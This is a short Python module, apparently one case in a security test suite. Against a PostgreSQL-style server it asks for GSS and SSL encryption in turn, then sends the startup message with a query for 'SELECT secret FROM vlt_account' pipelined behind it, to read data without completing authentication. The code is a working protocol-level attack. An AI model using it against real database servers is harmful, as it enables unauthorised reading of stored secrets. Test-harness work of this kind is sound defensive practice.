"""Asks for encryption twice, then sends a Query with the StartupMessage."""

from attacks.frames import ask, query
from attacks.talking import Server
from raw_client import GSSENC_REQUEST, SSL_REQUEST, startup

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.raw() as client:
        for request in (GSSENC_REQUEST, SSL_REQUEST):
            client.send(request)
            client.read_byte()
        hello = startup(user=server.user, database=server.dbname)
        return ask(client, hello, query(b"SELECT secret FROM vlt_account"), rounds=2)
